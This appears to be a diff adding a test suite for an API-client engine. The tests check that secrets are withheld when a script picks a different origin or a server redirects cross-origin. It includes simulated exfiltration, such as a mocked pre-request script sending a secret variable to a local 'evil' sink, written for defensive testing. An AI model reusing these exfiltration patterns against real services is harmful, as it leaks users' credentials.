@@ -1,0 +1,555 @@
+import {
+  authSessionInMemory,
+  type SignInHost,
+  secretFieldsOf,
+  type WayOut,
+  waysOut,
+  withSecretField,
+} from '@parley/engine'
+import {
+  type AuthType,
+  type EffectiveAuth,
+  inheritedRequestSettings,
+  newAuth,
+  type OAuth2Auth,
+  ok,
+  type ProxySettings,
+  row,
+} from '@parley/model'
+import { type RecordedRequest, type Sink, startSink } from '@parley/testkit'
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
+import { directPath } from './connection/network-path.ts'
+import { testProxy } from './network-settings/test-proxy.ts'
+import {
+  askingHost,
+  canary,
+  holds,
+  namesOf,
+  type ScriptedCase,
+  sendCase,
+  signInCase,
+  variableScopes,
+} from './secret-ways-out.testkit.ts'
+import { startEngine } from './send-through-engine.testkit.ts'
+
+const token = { statusCode: 200, headers: ['Content-Type', 'application/json'] }
+const answers: Readonly<Record<string, string>> = {
+  '/token': '{"access_token":"a-token","token_type":"bearer"}',
+  '/device': '{"device_code":"d","user_code":"u","interval":1}',
+}
+
+let engine = startEngine()
+/** Where the user means to send, and where a script or a redirect leads. */
+let good: Sink
+let evil: Sink
+let atGood: RecordedRequest[] = []
+let atEvil: RecordedRequest[] = []
+/** Where the good server redirects: a status, and the path of the evil one. */
+let redirect: { readonly statusCode: number; readonly location: string } | null = null
+
+beforeAll(async () => {
+  const answer = (url: string) => ({ ...token, content: answers[url.replace(/[?;].*/, '')] ?? '{}' })
+  evil = await startSink(request => {
+    atEvil.push(request)
+    return answer(request.url)
+  })
+  good = await startSink(request => {
+    atGood.push(request)
+    if (redirect === null) return answer(request.url)
+    return { statusCode: redirect.statusCode, headers: ['Location', redirect.location], content: '' }
+  })
+})
+
+afterEach(() => {
+  redirect = null
+  atGood = []
+  atEvil = []
+  engine.close()
+  engine = startEngine()
+})
+
+afterAll(async () => {
+  engine.close()
+  await good.close()
+  await evil.close()
+})
+
+/** What of an address a script chose: values of the user, and those of the script over them. */
+const choices = {
+  scheme: () => ({
+    typed: { scheme: 'https', host: '127.0.0.1', port: String(evil.port), path: '' },
+    scripted: { scheme: 'http' },
+  }),
+  host: () => ({
+    typed: { scheme: 'http', host: 'localhost', port: String(evil.port), path: '' },
+    scripted: { host: '127.0.0.1' },
+  }),
+  port: () => ({
+    typed: { scheme: 'http', host: '127.0.0.1', port: String(good.port), path: '' },
+    scripted: { port: String(evil.port) },
+  }),
+  all: () => ({
+    typed: { scheme: 'http', host: 'localhost', port: String(good.port), path: '' },
+    scripted: { scheme: 'http', host: '127.0.0.1', port: String(evil.port) },
+  }),
+}
+const address = '{{scheme}}://{{host}}:{{port}}'
+
+/** A secret as a case holds it: in a variable, or typed into the field. */
+type Kind = 'literal' | (typeof variableScopes)[number]
+const kinds: readonly Kind[] = [...variableScopes, 'literal']
+const textOf = (kind: Kind) => (kind === 'literal' ? canary : '{{secret}}')
+const scopeOf = (kind: Kind) => (kind === 'literal' ? null : kind)
+
+/** Every scheme, filled in so that it sends something; each of its secret fields is tried. */
+const auths = {
+  inherit: [],
+  none: [],
+  ntlm: [],
+  bearer: [newAuth('bearer')],
+  apiKey: [
+    { ...newAuth('apiKey'), key: 'X-Harmless' },
+    { ...newAuth('apiKey'), key: 'harmless', placement: 'query' },
+  ],
+  basic: [{ ...newAuth('basic'), username: 'u' }],
+  digest: [{ ...newAuth('digest'), username: 'u' }],
+  wsse: [{ ...newAuth('wsse'), username: 'u' }],
+  signatureV4: [
+    { ...newAuth('signatureV4'), accessKeyId: 'id', secretAccessKey: 'other-secret' },
+    { ...newAuth('signatureV4'), accessKeyId: 'id', secretAccessKey: 'other-secret', placement: 'query' },
+  ],
+  oauth1: [
+    { ...newAuth('oauth1'), consumerKey: 'c', signatureMethod: 'HMAC-SHA1' },
+    { ...newAuth('oauth1'), consumerKey: 'c', signatureMethod: 'PLAINTEXT', placement: 'query' },
+  ],
+  jwt: [{ ...newAuth('jwt'), algorithm: 'HS256', secret: 'other-secret' }],
+  hawk: [{ ...newAuth('hawk'), id: 'i' }],
+  oauth2: [{ ...newAuth('oauth2'), grantType: 'pasteAccessToken' }],
+} satisfies Record<AuthType, readonly EffectiveAuth[] | readonly never[]>
+
+/** A way out with a secret in it, as a script's values or typed ones lead it somewhere. */
+interface Way {
+  readonly label: string
+  /** Names by which the secret may be asked about. */
+  readonly names: readonly string[]
+  readonly kind: Kind
+  /** What arrives holds the secret's own text, not only what was made of it. */
+  readonly isPlain: boolean
+  run(one: ScriptedCase, host: ReturnType<typeof askingHost>): Promise<{ readonly ok: boolean }>
+  readonly request: ScriptedCase['request']
+}
+
+type Places = Readonly<Record<string, (text: string) => ScriptedCase['request']>>
+
+const places: Places = {
+  header: text => ({ headers: [row('X-Harmless', `v ${text}`)] }),
+  'header name': text => ({ headers: [row(`X-${text}`, 'v')] }),
+  query: text => ({ url: `${address}/{{path}}?q=${text}` }),
+  path: text => ({ url: `${address}/{{path}}${text}` }),
+  'path variable': text => ({ url: `${address}/{{path}}/:id`, pathParams: [row('id', text)] }),
+  cookie: text => ({ cookies: [row('c', text)] }),
+  'user in the URL': text => ({ url: `${address.replace('//', `//u:${text}@`)}/{{path}}` }),
+  'raw body': text => ({ method: 'POST', body: { type: 'raw', language: 'json', text: `{"k":"${text}"}` } }),
+  form: text => ({ method: 'POST', body: { type: 'urlEncoded', fields: [row('k', text)] } }),
+}
+
+/** With no token of an earlier case. */
+const send: Way['run'] = (one, { secretHosts }) =>
+  sendCase(engine, one, { secretHosts, authSession: authSessionInMemory() })
+
+function requestWays(): readonly Way[] {
+  const variable = variableScopes.flatMap(kind =>
+    Object.entries(places).map(
+      ([place, requestOf]): Way => ({
+        label: `${place}, ${kind} variable`,
+        names: ['secret'],
+        kind,
+        isPlain: true,
+        request: { url: `${address}/{{path}}`, ...requestOf('{{secret}}') },
+        run: send,
+      }),
+    ),
+  )
+  const fields = Object.values(auths)
+    .flat()
+    .flatMap(auth => secretFieldsOf(auth).map(({ field, label }) => ({ auth, field, label })))
+  const inAuth = kinds.flatMap(kind =>
+    fields
+      .filter(({ field }) => field !== 'privateKey')
+      .map(
+        ({ auth, field, label }): Way => ({
+          label: `${auth.type} ${'placement' in auth ? auth.placement : ''} ${label}, ${kind}`,
+          names: kind === 'literal' ? [label] : ['secret'],
+          kind,
+          isPlain: false,
+          request: { url: `${address}/{{path}}`, auth: withSecretField(auth, field, textOf(kind)) },
+          run: send,
+        }),
+      ),
+  )
+  return [...variable, ...inAuth]
+}
+
+const oauth2: OAuth2Auth = {
+  ...newAuth('oauth2'),
+  clientId: 'c',
+  clientAuthentication: 'body',
+  authorizationUrl: 'http://127.0.0.1/authorize',
+}
+const clientSecretIs = (kind: Kind) => (kind === 'literal' ? ['Client secret'] : ['secret'])
+
+/** The request itself goes where the user says; its authorization does not. */
+function tokenWays(
+  label: string,
+  authOf: (text: string) => OAuth2Auth,
+  run: Way['run'],
+  namesOfKind: (kind: Kind) => readonly string[] = clientSecretIs,
+): readonly Way[] {
+  return kinds.map(kind => ({
+    label: `${label}, ${kind}`,
+    names: namesOfKind(kind),
+    kind,
+    isPlain: true,
+    request: { url: `http://127.0.0.1:${good.port}/me`, auth: authOf(textOf(kind)) },
+    run,
+  }))
+}
+
+const signIn =
+  (host: Partial<SignInHost> = {}): Way['run'] =>
+  (one, { secretHosts }) =>
+    signInCase(engine, one, { secretHosts }, host)
+
+/** The browser answers with a code at once. */
+const codeHost: Partial<SignInHost> = {
+  async listen(_callback, state) {
+    return ok({
+      redirectUri: 'http://127.0.0.1/callback',
+      redirected: async () =>
+        ok(
+          new Map([
+            ['code', 'the-code'],
+            ['state', state],
+          ]),
+        ),
+      close: async () => {},
+    })
+  },
+  openBrowser: async () => {},
+}
+
+const renewal: Way['run'] = async (one, host) => {
+  const { secretHosts } = host
+  const authSession = {
+    ...engine.ports.authSession,
+    tokens: {
+      ...engine.ports.authSession.tokens,
+      held: async () => ({ accessToken: 'old', idToken: '', refreshToken: 'refresh-token', expiresAt: 1 }),
+    },
+  }
+  const outcome = await sendCase(engine, one, { secretHosts, authSession })
+  const notices = outcome.ok ? outcome.value.exchange.notices : []
+  return { ok: outcome.ok && notices.every(({ code }) => code !== 'TOKEN_NOT_RENEWED') }
+}
+
+/** Every way out that the engine knows; one without an entry does not compile. */
+const ways = {
+  request: requestWays,
+  tokenRequest: () => [
+    ...tokenWays(
+      'client credentials of a send',
+      clientSecret => ({
+        ...oauth2,
+        grantType: 'clientCredentials',
+        tokenUrl: `${address}/token`,
+        clientSecret,
+      }),
+      send,
+    ),
+    ...tokenWays(
+      'password of a send',
+      password => ({
+        ...oauth2,
+        grantType: 'password',
+        tokenUrl: `${address}/token`,
+        username: 'u',
+        password,
+      }),
+      send,
+      kind => (kind === 'literal' ? ['Password'] : ['secret']),
+    ),
+    ...tokenWays(
+      'Get New Access Token by client credentials',
+      clientSecret => ({
+        ...oauth2,
+        grantType: 'clientCredentials',
+        tokenUrl: `${address}/token`,
+        clientSecret,
+      }),
+      signIn(),
+    ),
+    ...tokenWays(
+      'Get New Access Token by code',
+      clientSecret => ({ ...oauth2, tokenUrl: `${address}/token`, clientSecret }),
+      signIn(codeHost),
+    ),
+  ],
+  tokenRenewal: () =>
+    tokenWays(
+      'refresh token',
+      clientSecret => ({
+        ...oauth2,
+        tokenUrl: `${good.url}/token`,
+        refreshTokenUrl: `${address}/token`,
+        clientSecret,
+      }),
+      renewal,
+    ),
+  deviceAuthorization: () =>
+    tokenWays(
+      'device code',
+      clientSecret => ({
+        ...oauth2,
+        grantType: 'deviceCode',
+        deviceAuthorizationUrl: `${address}/device`,
+        tokenUrl: `${good.url}/token`,
+        clientSecret,
+      }),
+      signIn(),
+    ),
+  signInPage: () =>
+    tokenWays(
+      'page of the browser',
+      value => ({
+        ...oauth2,
+        authorizationUrl: `${address}/authorize`,
+        tokenUrl: `${good.url}/token`,
+        additionalParameters: [{ request: 'authorization', name: 'p', value, placement: 'query' }],
+      }),
+      signIn({
+        ...codeHost,
+        openBrowser: async url => void (await fetch(url)),
+      }),
+    ).filter(({ kind }) => kind !== 'literal'),
+  scriptRequest: () => [],
+} satisfies Record<WayOut, () => readonly Way[]>
+
+describe('a secret on its way to an origin that a script chose (SE8)', () => {
+  const parts = Object.keys(choices) as (keyof typeof choices)[]
+  test.each(waysOut.flatMap(way => parts.map(part => [way, part] as const)))(
+    '%s, %s chosen: asked, and refused nothing arrives',
+    async (way, part) => {
+      for (const { label, names, kind, isPlain, request, run } of ways[way]()) {
+        const one = { request, ...choices[part](), scope: scopeOf(kind) }
+        const refusing = askingHost(false)
+        const refused = await run(one, refusing)
+        expect(refused.ok, label).toBe(false)
+        expect(refusing.asked.length, label).toBe(1)
+        expect(refusing.asked[0], label).toMatchObject({ origin: evil.url, chosenBy: 'script' })
+        expect(refusing.asked.flatMap(namesOf), label).toEqual(expect.arrayContaining([...names]))
+        expect(atEvil, label).toEqual([])
+        await run(one, askingHost(true))
+        expect(atEvil.length, label).toBeGreaterThan(0)
+        if (isPlain) expect(holds(atEvil, canary), label).toBe(true)
+        atEvil = []
+      }
+    },
+    120_000,
+  )
+
+  test.each(waysOut)('%s: a script that chose the path alone is not asked about', async way => {
+    for (const { label, kind, request, run } of ways[way]()) {
+      const typed = { scheme: 'http', host: '127.0.0.1', port: String(evil.port), path: '' }
+      const host = askingHost(false)
+      const sent = await run({ request, typed, scripted: { path: 'chosen' }, scope: scopeOf(kind) }, host)
+      expect(sent.ok, label).toBe(true)
+      expect(host.asked, label).toEqual([])
+    }
+  })
+
+  test('nothing is asked about a secret that scripts may read, nor where there is none', async () => {
+    const host = askingHost(false)
+    const request = { url: `${address}/`, headers: [row('X', '{{secret}}')] }
+    await sendCase(engine, { request, ...choices.port(), scope: 'global', isReadable: true }, host)
+    await sendCase(engine, { request: { url: `${address}/` }, ...choices.port(), scope: null }, host)
+    expect(host.asked).toEqual([])
+    expect(atEvil).toHaveLength(2)
+  })
+
+  test('a held token is asked about, and so is a refresh token alone', async () => {
+    const auth: OAuth2Auth = { ...oauth2, grantType: 'clientCredentials', tokenUrl: `${good.url}/token` }
+    const host = askingHost(false)
+    await sendCase(engine, { request: { url: address, auth }, ...choices.port(), scope: null }, host)
+    expect(host.asked.map(namesOf)).toEqual([['Access token']])
+    const renewing = askingHost(false)
+    const refreshTokenUrl = `${address}/token`
+    await renewal(
+      { request: { url: good.url, auth: { ...auth, refreshTokenUrl } }, ...choices.port(), scope: null },
+      renewing,
+    )
+    expect(renewing.asked.map(namesOf)).toEqual([['Refresh token']])
+    expect(atEvil).toEqual([])
+  })
+
+  test('a request of a script that names it is refused', async () => {
+    const host = askingHost(true)
+    const failures: string[] = []
+    const { scripts } = engine.ports
+    await sendCase(
+      engine,
+      { request: { url: good.url }, typed: {}, scripted: {}, scope: 'global' },
+      {
+        ...host,
+        scripts: {
+          ...scripts,
+          async runPreRequest(run) {
+            for (const request of [
+              { method: 'GET', url: `${evil.url}/{{secret}}`, headers: [], content: null },
+              { method: 'GET', url: evil.url, headers: [row('X', '{{secret}}')], content: null },
+              {
+                method: 'POST',
+                url: evil.url,
+                headers: [],
+                content: { text: '{{secret}}', mediaType: null },
+              },
+            ]) {
+              const sent = await run.sendRequest(request, run.resolved.scopes, run.signal)
+              if (!sent.ok) failures.push(sent.failure.code)
+            }
+            return scripts.runPreRequest(run)
+          },
+        },
+      },
+    )
+    expect(failures).toEqual(['VARIABLE_WITHHELD', 'VARIABLE_WITHHELD', 'VARIABLE_WITHHELD'])
+    expect(atEvil).toEqual([])
+  })
+
+  test('through a proxy as well: it is not even connected to', async () => {
+    const proxy = await startSink()
+    const server = { type: 'http', host: '127.0.0.1', port: proxy.port, username: '', password: '' } as const
+    engine.close()
+    engine = startEngine({ choosePath: async () => ({ ...directPath, proxy: server }) })
+    const request = { url: `${address}/`, headers: [row('X', '{{secret}}')] }
+    const host = askingHost(false)
+    await sendCase(engine, { request, ...choices.port(), scope: 'global' }, host)
+    expect(host.asked).toHaveLength(1)
+    expect(proxy.requests).toEqual([])
+    await proxy.close()
+  })
+
+  test('Test Connection fills in no variable, so no script chooses where it goes', async () => {
+    const settings: ProxySettings = {
+      enabled: true,
+      type: 'http',
+      host: '{{host}}',
+      port: evil.port,
+      username: '{{secret}}',
+      bypass: '',
+    }
+    const systemProxy = async () => null
+    const tested = await testProxy(settings, '{{secret}}', { systemProxy }, new AbortController().signal)
+    expect(tested.ok).toBe(false)
+    expect(atEvil).toEqual([])
+  })
+})
+
+describe('a secret and a redirect to another origin', () => {
+  const statuses = [301, 302, 303, 307, 308] as const
+  /** A secret in these stays behind with its row. */
+  const droppable = ['header', 'header name', 'query', 'cookie', 'user in the URL']
+  const inBody = ['raw body', 'form']
+
+  const secrets = [
+    { label: 'withheld', isReadable: false, value: canary },
+    { label: 'readable', isReadable: true, value: canary },
+    { label: 'short', isReadable: false, value: '7391' },
+  ]
+
+  test.each(statuses.flatMap(status => secrets.map(secret => [status, secret.label, secret] as const)))(
+    '%i, %s: rows stay behind, a body is asked about',
+    async (statusCode, _, { isReadable, value }) => {
+      for (const place of [...droppable, ...inBody]) {
+        const requestOf = places[place]
+        if (requestOf === undefined) throw new Error(place)
+        redirect = { statusCode, location: `${evil.url}/there` }
+        const request = { url: `${good.url}/`, method: 'POST', ...requestOf('{{secret}}') }
+        const url = (request.url ?? '')
+          .replace(address, good.url)
+          .replace(address.replace('//', '//u:{{secret}}@'), good.url.replace('//', '//u:{{secret}}@'))
+        const one = {
+          request: { ...request, url },
+          typed: { path: '' },
+          scripted: { path: 'open-redirect' },
+          scope: 'global',
+          isReadable,
+          value,
+        } as const
+        const keepsBody = statusCode >= 307 && inBody.includes(place)
+        const host = askingHost(false)
+        const outcome = await sendCase(engine, one, host)
+        expect(host.asked.length, place).toBe(keepsBody ? 1 : 0)
+        expect(outcome.ok, place).toBe(!keepsBody)
+        if (keepsBody) {
+          expect(host.asked[0]).toMatchObject({ origin: evil.url, chosenBy: 'redirect' })
+          expect(outcome).toMatchObject({
+            failure: { failure: { code: 'SECRET_REDIRECT_NOT_ALLOWED', subject: 'secret' } },
+          })
+        }
+        expect(atEvil.length, place).toBe(keepsBody ? 0 : 1)
+        expect(holds(atEvil, value), place).toBe(false)
+        atEvil = []
+        if (!keepsBody) continue
+        await sendCase(engine, one, askingHost(true))
+        expect(holds(atEvil, value), place).toBe(true)
+        atEvil = []
+      }
+    },
+  )
+
+  test.each(statuses)('%i: what every scheme places stays behind', async statusCode => {
+    for (const { label, kind, request, run } of requestWays().filter(way => !way.isPlain)) {
+      redirect = { statusCode, location: `${evil.url}/there` }
+      const typed = { scheme: 'http', host: '127.0.0.1', port: String(good.port), path: '' }
+      await run({ request, typed, scripted: { path: 'open' }, scope: scopeOf(kind) }, askingHost(false))
+      expect(atEvil.length, label).toBe(1)
+      expect(holds(atEvil, canary), label).toBe(false)
+      atEvil = []
+    }
+  })
+
+  test('a path that carries it is asked about: a script may have put the host before it', async () => {
+    redirect = { statusCode: 302, location: `${evil.url}/${encodeURIComponent(canary)}?a=1` }
+    const request = { url: `${good.url}/r?to={{evil}}{{secret}}` }
+    const one = { request, typed: {}, scripted: { evil: evil.url }, scope: 'global' } as const
+    const host = askingHost(false)
+    expect((await sendCase(engine, one, host)).ok).toBe(false)
+    expect(host.asked.map(namesOf)).toEqual([['secret']])
+    expect(atEvil).toEqual([])
+  })
+
+  test('a query that the server hands on with it loses that parameter', async () => {
+    redirect = { statusCode: 302, location: `${evil.url}/a?x=1&s=${encodeURIComponent(canary)}&y=2` }
+    const request = { url: `${good.url}/?s={{secret}}` }
+    await sendCase(engine, { request, typed: {}, scripted: {}, scope: 'global' }, askingHost(false))
+    expect(atEvil.map(one => one.url)).toEqual(['/a?x=1&y=2'])
+  })
+
+  test('to the same origin everything goes along, and back to the first one nothing is asked', async () => {
+    redirect = { statusCode: 307, location: '/again' }
+    const request = { url: `${good.url}/`, method: 'POST', headers: [row('X-Harmless', '{{secret}}')] }
+    const host = askingHost(false)
+    await sendCase(
+      engine,
+      {
+        request: { ...request, settings: { ...inheritedRequestSettings, maxRedirects: 1 } },
+        typed: {},
+        scripted: {},
+        scope: 'global',
+      },
+      host,
+    )
+    expect(host.asked).toEqual([])
+    expect(atGood.map(one => one.headers.some(({ name }) => name === 'X-Harmless'))).toEqual([true, true])
+  })
+})
